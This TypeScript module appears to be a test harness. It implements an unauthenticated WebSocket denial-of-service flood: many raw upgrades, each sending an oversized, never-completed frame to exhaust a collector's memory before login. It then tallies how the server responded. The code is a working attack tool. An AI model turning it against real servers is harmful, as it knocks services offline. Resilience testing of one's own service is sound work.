import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

export interface PreloginFloodOptions {
  readonly host: string;
  readonly port: number;
  /** WebSocket upgrades opened at once. */
  readonly connections: number;
  /** Payload length each frame header announces (15 MiB: the collector's post-login limit). */
  readonly frameBytes: number;
  /** Payload bytes actually sent per connection (default frameBytes - 1: the frame never completes). */
  readonly sendBytes?: number;
  readonly path?: string;
  /** Give up on a connection after this long without progress (default 20000). */
  readonly timeoutMs?: number;
  /** Keep each connection open this long after its last byte (default 0), as a patient attacker would. */
  readonly holdMs?: number;
}

export interface PreloginFloodResult {
  /** Upgrades the server answered with 101. */
  readonly upgraded: number;
  /** Upgrades answered with another status (the server refused before upgrading). */
  readonly refused: number;
  /** Connections that failed before any answer (reset, refused). */
  readonly failed: number;
  /** Payload bytes handed to the kernel over all connections (an upper bound of what the server read). */
  readonly payloadBytesWritten: number;
  /** Connections the server ended before all `sendBytes` were written. */
  readonly cutShort: number;
}

/**
 * The unauthenticated flood: raw WebSocket upgrades to `path` (no hello, no secret), each sending
 * one masked text-frame header announcing `frameBytes` and then most of those bytes, all
 * connections at once. A collector that enforces its limit only per frame after login buffers
 * every byte of every connection.
 */
export async function preloginFlood(options: PreloginFloodOptions): Promise<PreloginFloodResult> {
  const outcomes = await Promise.all(Array.from({ length: options.connections }, () => floodOne(options)));
  const count = (kind: Outcome['kind']): number => outcomes.filter((o) => o.kind === kind).length;
  return {
    upgraded: count('upgraded'),
    refused: count('refused'),
    failed: count('failed'),
    payloadBytesWritten: outcomes.reduce((sum, o) => sum + o.written, 0),
    cutShort: outcomes.filter((o) => o.kind === 'upgraded' && o.cutShort).length,
  };
}

interface Outcome {
  readonly kind: 'upgraded' | 'refused' | 'failed';
  readonly written: number;
  readonly cutShort: boolean;
}

/** A client frame header (FIN, text, masked) with a 64-bit payload length, and its mask key. */
export function frameHeader(payloadBytes: number): Buffer {
  const header = Buffer.alloc(14);
  header[0] = 0x81;
  header[1] = 0x80 | 127;
  header.writeBigUInt64BE(BigInt(payloadBytes), 2);
  randomBytes(4).copy(header, 10);
  return header;
}

/** The HTTP/1.1 upgrade request a WebSocket client sends. */
export function upgradeRequest(host: string, port: number, path = '/api'): string {
  return [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}:${port}`,
    'Upgrade: websocket',
    'Connection: Upgrade',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    'Sec-WebSocket-Version: 13',
    '',
    '',
  ].join('\r\n');
}

/** Opens a raw socket and sends an upgrade request; resolves with the status line's code (0: no answer). */
export async function rawUpgrade(host: string, port: number, path = '/api', timeoutMs = 10_000): Promise<{ socket: Socket; status: number }> {
  const socket = connect({ host, port });
  socket.on('error', () => undefined);
  socket.setTimeout(timeoutMs, () => socket.destroy());
  try {
    await once(socket, 'connect');
  } catch {
    return { socket, status: 0 };
  }
  socket.write(upgradeRequest(host, port, path));
  const status = await new Promise<number>((resolve) => {
    let head = '';
    const onData = (chunk: Buffer): void => {
      head += chunk.toString('latin1');
      const end = head.indexOf('\r\n\r\n');
      if (end === -1) return;
      socket.off('data', onData);
      socket.off('close', onClose);
      // Bytes after the response head (a close frame) stay unread: this client never reads again.
      resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0));
    };
    const onClose = (): void => resolve(0);
    socket.on('data', onData);
    socket.once('close', onClose);
  });
  return { socket, status };
}

/** Resolves when the socket can take more bytes or has closed (its listeners removed either way). */
const drainOrClose = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    socket.on('drain', done);
    socket.on('close', done);
  });

async function floodOne(options: PreloginFloodOptions): Promise<Outcome> {
  const { host, port, frameBytes, path = '/api', timeoutMs = 20_000 } = options;
  const sendBytes = options.sendBytes ?? frameBytes - 1;
  const { socket, status } = await rawUpgrade(host, port, path, timeoutMs);
  if (status === 0) {
    socket.destroy();
    return { kind: 'failed', written: 0, cutShort: false };
  }
  if (status !== 101) {
    socket.destroy();
    return { kind: 'refused', written: 0, cutShort: false };
  }
  // The server's frames (a close) are read and thrown away, so its close handshake completes.
  socket.on('data', () => undefined);
  const chunk = Buffer.alloc(64 * 1024);
  let written = 0;
  let open = !socket.destroyed;
  socket.once('close', () => (open = false));
  if (open) socket.write(frameHeader(frameBytes));
  while (open && written < sendBytes) {
    const part = Math.min(chunk.length, sendBytes - written);
    const more = socket.write(part === chunk.length ? chunk : chunk.subarray(0, part));
    written += part;
    if (!more) await drainOrClose(socket);
  }
  const cutShort = !open || socket.destroyed;
  if (open && (options.holdMs ?? 0) > 0) {
    const hold = setTimeout(() => socket.destroy(), options.holdMs);
    await once(socket, 'close');
    clearTimeout(hold);
  }
  socket.destroy();
  return { kind: 'upgraded', written, cutShort };
}
